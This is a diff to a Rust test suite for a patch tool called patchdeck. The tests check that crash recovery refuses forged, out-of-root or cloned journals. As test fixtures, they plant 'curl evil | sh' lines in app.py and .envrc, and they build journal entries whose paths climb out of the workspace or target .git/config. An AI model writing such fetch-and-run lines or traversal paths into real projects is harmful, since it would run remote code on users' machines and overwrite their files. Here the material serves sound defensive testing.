@@ -43,22 +43,21 @@ impl User {
 fn plant_rollback(ws: &Path, seal: Option<&Key>) {
     let id = format!("{:032x}-4242", 7);
     let app = fs::read(ws.join("src/app.py")).unwrap();
-    let tx = ws.join(format!(".patchdeck/tx-{id}"));
-    fs::create_dir_all(&tx).unwrap();
     let planted_app = b"import os; os.system('curl evil | sh')\n";
     let planted_envrc = b"curl evil | sh\n";
-    fs::write(tx.join("0"), planted_app).unwrap();
-    fs::write(tx.join("1"), planted_envrc).unwrap();
+    // The "originals" beside their targets, where patchdeck keeps them during a commit.
+    fs::write(ws.join(format!("src/.app.py.pd-{id}-0.orig")), planted_app).unwrap();
+    fs::write(ws.join(format!("..envrc.pd-{id}-1.orig")), planted_envrc).unwrap();
+    fs::create_dir_all(ws.join(".patchdeck")).unwrap();
     let journal = serde_json::json!({
-        "version": 1, "id": id, "pid": 4242, "state": "prepared",
-        "backupDir": format!(".patchdeck/tx-{id}"),
+        "version": 2, "id": id, "pid": 4242, "state": "prepared",
         "entries": [
             {"path": "src/app.py", "kind": "modify",
              "staged": format!("src/.app.py.pd-{id}-0.tmp"),
-             "backup": format!(".patchdeck/tx-{id}/0"),
+             "backup": format!("src/.app.py.pd-{id}-0.orig"),
              "preSha256": sha(planted_app), "postSha256": sha(&app), "createdDirs": []},
             {"path": ".envrc", "kind": "delete", "staged": null,
-             "backup": format!(".patchdeck/tx-{id}/1"),
+             "backup": format!("..envrc.pd-{id}-1.orig"),
              "preSha256": sha(planted_envrc), "postSha256": null, "createdDirs": []},
         ]
     });
@@ -158,55 +157,51 @@ fn a_sealed_journal_that_leads_out_of_the_root_is_refused_and_nothing_is_touched
     let user = User::new();
     let key = user.key();
     let victim = tempfile::tempdir().unwrap();
-    fs::create_dir_all(victim.path().join("tree")).unwrap();
     fs::write(victim.path().join("keep.txt"), "keep\n").unwrap();
-    fs::write(victim.path().join("tree/also.txt"), "also\n").unwrap();
     let id = format!("{:032x}-1", 1);
     let sha = "a".repeat(64);
+    let original = format!(".notes.txt.pd-{id}-0.orig");
     let entries = [
         // A staged file outside the root.
         serde_json::json!({"path": "notes.txt", "kind": "modify",
-            "staged": victim.path().join("keep.txt"), "backup": format!(".patchdeck/tx-{id}/0"),
+            "staged": victim.path().join("keep.txt"), "backup": original,
+            "preSha256": sha, "postSha256": sha, "createdDirs": []}),
+        // An original kept outside the root, to be moved over a file.
+        serde_json::json!({"path": "notes.txt", "kind": "modify",
+            "staged": format!(".notes.txt.pd-{id}-0.tmp"), "backup": victim.path().join("keep.txt"),
             "preSha256": sha, "postSha256": sha, "createdDirs": []}),
         // A file to restore that climbs out.
         serde_json::json!({"path": "../keep.txt", "kind": "delete", "staged": null,
-            "backup": format!(".patchdeck/tx-{id}/0"), "preSha256": sha, "postSha256": null,
+            "backup": format!("../.keep.txt.pd-{id}-0.orig"), "preSha256": sha, "postSha256": null,
             "createdDirs": []}),
         // A file in .git.
         serde_json::json!({"path": ".git/config", "kind": "create",
-            "staged": format!(".git/..config.pd-{id}-0.tmp"), "backup": null,
+            "staged": format!(".git/.config.pd-{id}-0.tmp"), "backup": null,
             "preSha256": null, "postSha256": sha, "createdDirs": [".git"]}),
     ];
     for (n, entry) in entries.iter().enumerate() {
         let ws = workspace_with(&[("notes.txt", b"mine\n")]);
-        let backup_dirs = [
-            format!(".patchdeck/tx-{id}"),
-            victim.path().join("tree").display().to_string(),
-        ];
-        for backup_dir in &backup_dirs {
-            let journal = serde_json::json!({"version": 1, "id": id, "pid": 1,
-                "state": "prepared", "backupDir": backup_dir, "entries": [entry]});
-            fs::create_dir_all(ws.path().join(".patchdeck")).unwrap();
-            fs::write(
-                ws.path().join(".patchdeck/journal"),
-                key.seal(Purpose::Journal, journal.to_string().as_bytes()),
-            )
-            .unwrap();
-            let out = user.run(ws.path(), &["recover"]);
-            assert_eq!(out.status.code(), Some(3), "entry {n}: {}", stderr(&out));
-            assert!(
-                stderr(&out).contains("was not written by this version of patchdeck"),
-                "entry {n}: {}",
-                stderr(&out)
-            );
-            assert_eq!(fs::read(victim.path().join("keep.txt")).unwrap(), b"keep\n");
-            assert!(victim.path().join("tree/also.txt").exists());
-            assert_eq!(fs::read(ws.path().join("notes.txt")).unwrap(), b"mine\n");
-            assert!(
-                ws.path().join(".patchdeck/journal").exists(),
-                "kept for a person"
-            );
-        }
+        let journal = serde_json::json!({"version": 2, "id": id, "pid": 1,
+            "state": "prepared", "entries": [entry]});
+        fs::create_dir_all(ws.path().join(".patchdeck")).unwrap();
+        fs::write(
+            ws.path().join(".patchdeck/journal"),
+            key.seal(Purpose::Journal, journal.to_string().as_bytes()),
+        )
+        .unwrap();
+        let out = user.run(ws.path(), &["recover"]);
+        assert_eq!(out.status.code(), Some(3), "entry {n}: {}", stderr(&out));
+        assert!(
+            stderr(&out).contains("was not written by this version of patchdeck"),
+            "entry {n}: {}",
+            stderr(&out)
+        );
+        assert_eq!(fs::read(victim.path().join("keep.txt")).unwrap(), b"keep\n");
+        assert_eq!(fs::read(ws.path().join("notes.txt")).unwrap(), b"mine\n");
+        assert!(
+            ws.path().join(".patchdeck/journal").exists(),
+            "kept for a person"
+        );
     }
 }
 
@@ -221,8 +216,7 @@ fn an_undo_record_that_came_with_a_clone_is_never_restored() {
     let planted = b"import os; os.system('curl evil | sh')\n";
     fs::write(record.join("0"), planted).unwrap();
     let journal = serde_json::json!({
-        "version": 1, "id": id, "pid": 4242, "state": "committed", "label": "harmless",
-        "backupDir": format!(".patchdeck/history/{id}"),
+        "version": 2, "id": id, "pid": 4242, "state": "committed", "label": "harmless",
         "entries": [{"path": "src/app.py", "kind": "modify",
             "staged": format!("src/.app.py.pd-{id}-0.tmp"),
             "backup": format!(".patchdeck/history/{id}/0"),
